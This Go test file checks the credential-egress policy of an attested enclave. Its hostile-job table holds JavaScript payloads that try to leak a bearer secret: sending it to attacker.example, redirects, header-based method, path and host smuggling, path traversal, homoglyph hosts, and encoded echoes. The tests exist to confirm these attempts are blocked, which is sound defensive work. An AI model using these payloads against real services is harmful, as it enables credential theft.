package enclave

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/jurat-network/jurat"
	"github.com/jurat-network/jurat/core/job"
	"github.com/jurat-network/jurat/core/request"
	"github.com/jurat-network/jurat/edge/attest"
	"github.com/jurat-network/jurat/edge/compute"
	"github.com/jurat-network/jurat/edge/source"
	"github.com/jurat-network/jurat/node"
)

const canary = "canary-51f0e7:pässword+/="

// rig is an enclave that serves a real node's link, and a far end under TLS; what the
// link carries is kept, as a host on the way could.
type rig struct {
	t       *testing.T
	enclave *Enclave
	server  *server
	link    *node.EnclaveLink
	far     *httptest.Server
	place   Place

	mu      sync.Mutex
	carried bytes.Buffer   // by the node, both ways
	asked   []http.Request // by the far end
	reroute string         // where the host takes all connections instead
	dialled []string
}

// simulated is a root and a machine that all tests share: making keys takes long.
var simulated = sync.OnceValues(func() (*attest.Simulator, *attest.Machine) {
	s, err := attest.NewSimulator(time.Now())
	if err != nil {
		panic(err)
	}
	m, err := s.Machine()
	if err != nil {
		panic(err)
	}
	return s, m
})

// newEnclave is one whose machine measures a file as its program.
func newEnclave(t *testing.T, program string) *Enclave {
	t.Helper()
	s, m := simulated()
	measured, err := attest.MeasureFile(program)
	if err != nil {
		t.Fatal(err)
	}
	e, err := New(t.Context(), Config{Machine: m, Measured: measured, Trust: s.Trust(time.Now())})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(e.Close)
	return e
}

type tap struct {
	net.Conn
	r *rig
}

func (c tap) Read(b []byte) (int, error) {
	n, err := c.Conn.Read(b)
	c.r.keep(b[:n])
	return n, err
}

func (c tap) Write(b []byte) (int, error) { c.r.keep(b); return c.Conn.Write(b) }

func (r *rig) keep(b []byte) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.carried.Write(b)
}

func newRig(t *testing.T, far http.HandlerFunc) *rig {
	t.Helper()
	r := &rig{t: t}
	r.far = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		r.mu.Lock()
		r.asked = append(r.asked, *q)
		r.mu.Unlock()
		far(w, q)
	}))
	t.Cleanup(r.far.Close)
	r.place = placeOf(r.far)
	r.enclave = newEnclave(t, "enclave.go")
	socket := filepath.Join(t.TempDir(), "enclave.sock")
	listener, err := net.Listen("unix", socket)
	if err != nil {
		t.Fatal(err)
	}
	r.server = newServer(r.enclave)
	served := make(chan error, 1)
	ctx, cancel := context.WithCancel(t.Context())
	go func() { served <- r.server.serve(ctx, listener) }()
	t.Cleanup(func() {
		cancel()
		if err := <-served; err != nil {
			t.Error(err)
		}
	})
	u, _ := url.Parse(r.far.URL)
	client, err := source.NewClient(source.Config{Allow: []string{u.Host}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(client.Close)
	r.link, err = node.LinkEnclave(t.Context(), socket, func(ctx context.Context, network, address string) (net.Conn, error) {
		r.mu.Lock()
		r.dialled = append(r.dialled, address)
		if r.reroute != "" {
			address = r.reroute
		}
		r.mu.Unlock()
		conn, err := client.Dial(ctx, network, address)
		if err != nil {
			return nil, err
		}
		return tap{conn, r}, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(r.link.Close)
	return r
}

// placeOf is a test server as a document that seals it would have it. Its
// certificate is for example.com and 127.0.0.1, and is its own authority.
func placeOf(s *httptest.Server) Place {
	cert := s.Certificate()
	return Place{Origin: s.URL, Authorities: string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: cert.Raw}))}
}

// credential is one for /balance of the far end.
func (r *rig) credential() *Credential {
	return &Credential{Name: "bank", Value: canary, Owner: jurat.Address{1},
		Policy: Policy{Place: r.place, Method: "GET", Path: "/accounts/*/balance", Header: "Authorization", Form: "Bearer {}",
			Query: []string{"currency"}, Headers: []string{"accept-language"}, Uses: 1, Expires: wall() + 60_000}}
}

func wall() jurat.Time { return jurat.Time(time.Now().UnixMilli()) }

const balanceJob = `name: solvent
params: [{name: account, type: text}]
output: {type: bool}
value: balance >= 1000
values: [{name: balance}]
guards: {min_sources: 1, max_age: 1h}
sources:
  - {name: bank, of: balance, http: {url: "%s/accounts/{account}/balance", auth: {bearer: bank}}, path: $.balance}
`

const codeJob = `name: code
output: {type: text}
guards: {min_sources: 1}
compute:
  secrets: [bank]
  hosts: ["%s"]
  javascript: |
%s
`

// code is a job of JavaScript that may ask the far end.
func (r *rig) code(javascript string) *job.Job {
	r.t.Helper()
	u, _ := url.Parse(r.far.URL)
	lines := "    " + strings.ReplaceAll(strings.ReplaceAll(javascript, "FAR", r.far.URL), "\n", "\n    ")
	return r.parse(fmt.Sprintf(codeJob, u.Host, lines))
}

func (r *rig) parse(text string) *job.Job {
	r.t.Helper()
	j, err := job.Parse([]byte(text))
	if err != nil {
		r.t.Fatalf("%v\n%s", err, text)
	}
	return j
}

// run runs a job as a task that has been opened.
func (r *rig) run(j *job.Job, c *Credential, params ...string) (request.Status, []byte) {
	r.t.Helper()
	args, err := j.Args(params)
	if err != nil {
		r.t.Fatal(err)
	}
	encoded, err := args.Encode()
	if err != nil {
		r.t.Fatal(err)
	}
	body := r.enclave.run(r.t.Context(), &opened{job: j, request: jurat.Hash{1}, time: wall(), now: wall(), context: []byte("context"),
		question: &Question{Params: encoded}, credentials: []*Credential{c}}, r.server)
	status, result, err := request.ParseBody(body)
	if err != nil {
		r.t.Fatal(err)
	}
	if holds(body, canary) {
		r.t.Errorf("the answer has the credential: %q", body)
	}
	return status, result
}

// unseen fails if the host saw the credential or the account in what it carried.
func (r *rig) unseen(texts ...string) {
	r.t.Helper()
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.carried.Len() == 0 {
		r.t.Error("nothing was carried")
	}
	for _, text := range append(texts, canary) {
		if holds(r.carried.Bytes(), text) {
			r.t.Errorf("the host sees %q", text)
		}
	}
}

// received counts the requests that reached the far end with the credential.
func (r *rig) received() (n int) {
	r.mu.Lock()
	defer r.mu.Unlock()
	for i := range r.asked {
		if strings.Contains(fmt.Sprint(r.asked[i].Header, r.asked[i].URL), canary) {
			n++
		}
	}
	return n
}

func balance(w http.ResponseWriter, q *http.Request) {
	if q.Header.Get("Authorization") != "Bearer "+canary || q.URL.Path != "/accounts/DE89370400440532013000/balance" {
		w.WriteHeader(http.StatusForbidden)
		return
	}
	_, _ = w.Write([]byte(`{"balance": 1500}`))
}

// A bank's balance is compared in the enclave; the node carries it all and reads none
// of it.
func TestTheNodeCarriesWhatItCannotRead(t *testing.T) {
	r := newRig(t, balance)
	j := r.parse(fmt.Sprintf(balanceJob, r.far.URL))
	status, result := r.run(j, r.credential(), "DE89370400440532013000")
	if status != request.Answered || len(result) != 32 || result[31] != 1 {
		t.Fatalf("%s %x", status, result)
	}
	if r.received() != 1 {
		t.Errorf("the far end was asked %d times", r.received())
	}
	r.unseen("DE89370400440532013000", `"balance": 1500`)
	if len(r.dialled) != 1 || r.dialled[0] != strings.TrimPrefix(r.far.URL, "https://") {
		t.Errorf("dialled %q", r.dialled)
	}
}

// Hostile jobs and a far end that echoes: each is stopped by the credential's policy.
func TestHostileJobsLearnNothing(t *testing.T) {
	const good = `const r = await Functions.makeHttpRequest({url: "FAR/accounts/1/balance", headers: {Authorization: "Bearer " + secrets.bank}})
return Functions.encodeString(JSON.stringify(r.data ?? r.message ?? "none"))`
	for name, c := range map[string]struct {
		javascript string
		far        http.HandlerFunc
		reaches    int // requests with the credential that may reach the far end
	}{
		"echo in the body": {good, func(w http.ResponseWriter, q *http.Request) { fmt.Fprintf(w, "%q", q.Header["Authorization"]) }, 1},
		"echo in base64": {good, func(w http.ResponseWriter, q *http.Request) {
			fmt.Fprintf(w, "%q", base64.StdEncoding.EncodeToString([]byte("x"+q.Header.Get("Authorization"))))
		}, 1},
		"echo in hex": {good, func(w http.ResponseWriter, q *http.Request) { fmt.Fprintf(w, `"%X"`, q.Header.Get("Authorization")) }, 1},
		"echo in a header": {good, func(w http.ResponseWriter, q *http.Request) {
			w.Header().Set("X-Was", q.Header.Get("Authorization"))
			fmt.Fprint(w, `"ok"`)
		}, 1},
		"echo in an error's body": {good, func(w http.ResponseWriter, q *http.Request) {
			w.WriteHeader(400)
			fmt.Fprint(w, q.Header.Get("Authorization"))
		}, 1},
		"a redirect on this origin": {good, func(w http.ResponseWriter, q *http.Request) {
			http.Redirect(w, q, "/accounts/2/balance", http.StatusFound)
		}, 1},
		"a redirect elsewhere": {good, func(w http.ResponseWriter, q *http.Request) {
			http.Redirect(w, q, "https://attacker.example/", http.StatusTemporaryRedirect)
		}, 1},
		"echo in a coding": {good, func(w http.ResponseWriter, q *http.Request) {
			w.Header().Set("Content-Encoding", "deflate")
			deflated, _ := flate.NewWriter(w, 9)
			fmt.Fprintf(deflated, "%q", q.Header["Authorization"])
			_ = deflated.Close()
		}, 1},
		"echo in gzip": {good, func(w http.ResponseWriter, q *http.Request) {
			w.Header().Set("Content-Encoding", "gzip")
			zipped := gzip.NewWriter(w)
			fmt.Fprintf(zipped, "%q", q.Header["Authorization"])
			_ = zipped.Close()
		}, 1},
		"what the policy names":      {strings.NewReplacer(`/balance"`, `/balance?currency=EUR"`, "{Authorization", `{"Accept-Language": "de", accept: "text/plain", Authorization`).Replace(good), nil, 1},
		"a body to a GET":            {strings.Replace(good, `{url:`, `{method: "GET", data: {_method: "DELETE"}, url:`, 1), nil, 0},
		"another method by a header": {strings.Replace(good, "{Authorization", `{"X-HTTP-Method-Override": "DELETE", Authorization`, 1), nil, 0},
		"another path by a header":   {strings.Replace(good, "{Authorization", `{"X-Original-URL": "/admin", Authorization`, 1), nil, 0},
		"another host by a header":   {strings.Replace(good, "{Authorization", `{"x-forwarded-host": "attacker.example", Authorization`, 1), nil, 0},
		"a parameter":                {strings.Replace(good, `/balance"`, `/balance?callback=https://attacker.example"`, 1), nil, 0},
		"a parameter twice":          {strings.Replace(good, `/balance"`, `/balance?currency=EUR&currency=USD"`, 1), nil, 0},
		"a parameter in another":     {strings.Replace(good, `/balance"`, `/balance?currency=EUR;x=1"`, 1), nil, 0},
		"a parameter, escaped":       {strings.Replace(good, `/balance"`, `/balance?%63urrency=EUR"`, 1), nil, 0},
		"another path":               {strings.Replace(good, "/accounts/1/balance", "/echo", 1), nil, 0},
		"a longer path":              {strings.Replace(good, "/accounts/1/balance", "/accounts/1/balance/x", 1), nil, 0},
		"a path out":                 {strings.Replace(good, "/accounts/1/balance", "/accounts/../balance", 1), nil, 0},
		"a path out, escaped":        {strings.Replace(good, "/accounts/1/balance", "/accounts/%2e%2e%2fadmin/balance", 1), nil, 0},
		"another method":             {strings.Replace(good, "url:", `method: "POST", url:`, 1), nil, 0},
		"another header":             {strings.Replace(good, "Authorization:", `"X-Log":`, 1), nil, 0},
		"more in the header":         {strings.Replace(good, `secrets.bank}`, `secrets.bank + secrets.bank}`, 1), nil, 0},
		"in the query":               {strings.Replace(good, `/balance"`, `/balance?k=" + secrets.bank`, 1), nil, 0},
		"another host header":        {strings.Replace(good, "{Authorization", `{Host: "attacker.example", Authorization`, 1), nil, 0},
		"another host":               {strings.Replace(good, "FAR", "https://attacker.example", 1), nil, 0},
		"over http":                  {strings.Replace(good, "FAR/", "http://127.0.0.1:1/", 1), nil, 0},
		"the mark as the result":     {`return Functions.encodeString(secrets.bank)`, nil, 0},
		"the mark in base64":         {`return Functions.encodeString(btoa(secrets.bank))`, nil, 0},
		"more uses than granted": {`let last = ""
for (let i = 0; i < 3; i++) {
  const r = await Functions.makeHttpRequest({url: "FAR/accounts/" + i + "/balance", headers: {Authorization: "Bearer " + secrets.bank}})
  last = String(r.error)
}
return Functions.encodeString(last)`, nil, 1},
	} {
		t.Run(name, func(t *testing.T) {
			far := c.far
			if far == nil {
				far = func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, `"ok"`) }
			}
			r := newRig(t, far)
			status, result := r.run(r.code(c.javascript), r.credential())
			if got := r.received(); got > c.reaches {
				t.Errorf("the credential reached the far end %d times, at most %d by its policy; answer %s %q", got, c.reaches, status, result)
			}
			if c.reaches > 0 && r.received() == 0 {
				t.Errorf("nothing was asked: the test shows nothing; answer %s %q", status, result)
			}
		})
	}
}

// A letter whose small form is another letter is no way to another host.
func TestHostsAreASCII(t *testing.T) {
	e := &egress{reach: []Place{{Origin: "https://api.bink.example"}}}
	for host, want := range map[string]error{"api.bink.example": nil, "API.bink.example": nil, "api.b\u0130nk.example": errReach, "api.bin\u212a.example": errReach} {
		if _, _, err := e.request(t.Context(), compute.Question{Method: "GET", URL: "https://" + host + "/"}); !errors.Is(err, want) {
			t.Errorf("%q: %v, want %v", host, err, want)
		}
	}
}

// An answer in a coding that was not asked for could carry a credential past the search for it.
func TestAnswersInACodingAreRefused(t *testing.T) {
	e := &egress{}
	for coding, want := range map[string]error{"": nil, "identity": nil, "br": errCoding, "deflate": errCoding, "gzip": errCoding} {
		answer := &http.Response{StatusCode: http.StatusOK, Header: http.Header{}, Body: io.NopCloser(strings.NewReader("x"))}
		if coding != "" {
			answer.Header.Set("Content-Encoding", coding)
		}
		if _, err := e.read(answer, 10); !errors.Is(err, want) {
			t.Errorf("%q: %v, want %v", coding, err, want)
		}
	}
}

// A host that controls names, routes and the clock, and has a certificate that another
// authority issued by mistake, is not the far end.
func TestAHostOnTheWayIsNotTheFarEnd(t *testing.T) {
	r := newRig(t, balance)
	j := r.parse(fmt.Sprintf(balanceJob, r.far.URL))
	evil := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		t.Errorf("the host was told: %v", q.Header)
	}))
	evil.TLS = certificate(t, "127.0.0.1", wall())
	evil.StartTLS()
	defer evil.Close()
	u, _ := url.Parse(evil.URL)
	r.reroute = u.Host
	client, err := source.NewClient(source.Config{Allow: []string{u.Host}})
	if err != nil {
		t.Fatal(err)
	}
	defer client.Close()
	conn := dialerFunc(func(ctx context.Context, _ string) (net.Conn, error) { return client.Dial(ctx, "tcp", u.Host) })
	args, _ := j.Args([]string{"1"})
	encoded, _ := args.Encode()
	body := r.enclave.run(t.Context(), &opened{job: j, now: wall(), question: &Question{Params: encoded}, credentials: []*Credential{r.credential()}}, conn)
	if status, _, _ := request.ParseBody(body); status != request.SourceDown {
		t.Errorf("%s", status)
	}

	// The right far end, at a time at which its certificate is not valid, and with another pin.
	r.reroute = ""
	for name, change := range map[string]func(*opened){
		"the clock before the certificate": func(o *opened) { o.now = jurat.Time(r.far.Certificate().NotBefore.UnixMilli() - 1000) },
		"the clock after the certificate": func(o *opened) {
			o.now = jurat.Time(r.far.Certificate().NotAfter.UnixMilli() + 1000)
			o.credentials[0].Policy.Expires = o.now * 2
		},
		"another pin":           func(o *opened) { o.credentials[0].Policy.Pins = []jurat.Hash{{1}} },
		"an expired credential": func(o *opened) { o.credentials[0].Policy.Expires = o.now },
	} {
		before := r.received()
		o := &opened{job: j, now: wall(), question: &Question{Params: encoded}, credentials: []*Credential{r.credential()}}
		change(o)
		body := r.enclave.run(t.Context(), o, r.server)
		if status, _, _ := request.ParseBody(body); status != request.SourceDown || r.received() != before {
			t.Errorf("%s: %s, %d requests", name, status, r.received()-before)
		}
	}
}

type dialerFunc func(ctx context.Context, address string) (net.Conn, error)

func (f dialerFunc) Dial(ctx context.Context, address string) (net.Conn, error) {
	return f(ctx, address)
}

// The same answer has the same sealed bytes; another answer, key or context has others,
// and lengths show the bucket alone.
func TestSealedAnswers(t *testing.T) {
	key, context := bytes.Repeat([]byte{7}, 32), []byte("context")
	one, err := SealResult(key, context, []byte("one"))
	if err != nil {
		t.Fatal(err)
	}
	again, _ := SealResult(key, context, []byte("one"))
	other, _ := SealResult(key, context, bytes.Repeat([]byte{1}, 250))
	if !bytes.Equal(one, again) || bytes.Equal(one, other) || len(one) != len(other) || len(one)%32 != 0 {
		t.Errorf("%d and %d bytes, equal %t", len(one), len(other), bytes.Equal(one, again))
	}
	if got, err := OpenResult(key, context, one); err != nil || string(got) != "one" {
		t.Errorf("%q %v", got, err)
	}
	for name, open := range map[string]func() ([]byte, error){
		"another key":     func() ([]byte, error) { return OpenResult(bytes.Repeat([]byte{8}, 32), context, one) },
		"another context": func() ([]byte, error) { return OpenResult(key, []byte("x"), one) },
		"a flipped bit": func() ([]byte, error) {
			b := bytes.Clone(one)
			b[100] ^= 1
			return OpenResult(key, context, b)
		},
		"cut": func() ([]byte, error) { return OpenResult(key, context, one[:90]) },
	} {
		if got, err := open(); err == nil {
			t.Errorf("%s: opened %q", name, got)
		}
	}
	if _, err := SealResult(key, context, make([]byte, 3069)); err == nil {
		t.Error("a result beyond the buckets is sealed")
	}
	if s := (request.Shape{request.Bytes}); func() bool { _, err := s.PutBehind(one); return err != nil }() {
		t.Error("not the abi.encode of bytes")
	}
}
